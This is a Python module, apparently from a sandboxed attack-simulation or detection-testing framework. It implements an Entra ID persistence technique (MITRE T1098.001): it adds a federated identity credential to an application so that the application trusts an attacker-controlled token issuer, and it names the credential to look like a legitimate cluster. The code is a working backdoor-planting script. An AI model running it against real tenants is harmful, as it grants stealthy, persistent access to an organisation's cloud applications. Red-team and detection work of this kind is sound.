"""Attack: a federated credential that trusts an issuer of the attacker's.

Technique   T1098.001 Account Manipulation: Additional Cloud Credentials
Needs       a token of an owner of the application, or Application.ReadWrite.*
Leaves      one more federated credential, which no list of secrets shows; AuditLogs "Update application"
Source      https://stratus-red-team.cloud/attack-techniques/entra-id/entra-id.persistence.backdoor-application-fic/
"""

from dataclasses import dataclass

from sandbox.attacks.attacker import AUDIENCE, Attacker, AttackFailedError

NAME = "aks-sea-shop-orders-api"  # looks like one more cluster
SUBJECT = "system:serviceaccount:shop:orders-api"


@dataclass(frozen=True, slots=True)
class RogueTrust:
    """What was planted; the issuer's key stays with the attacker."""

    credential_id: str
    issuer: str
    subject: str


async def plant(attacker: Attacker, owner_token: str, application: str) -> RogueTrust:
    """Open an issuer and make the application trust it."""
    issuer = await attacker.open_issuer("rogue")
    url = f"{attacker.endpoints['graph']}/v1.0/applications/{application}/federatedIdentityCredentials"
    wish = {"name": NAME, "issuer": issuer, "subject": SUBJECT, "audiences": [AUDIENCE]}
    answer = await attacker.call("POST", url, owner_token, wish)
    if not answer.is_success:
        raise AttackFailedError(
            f"federatedIdentityCredentials: {answer.status_code} {answer.text[:300]}"
        )
    return RogueTrust(answer.json()["id"], issuer, SUBJECT)
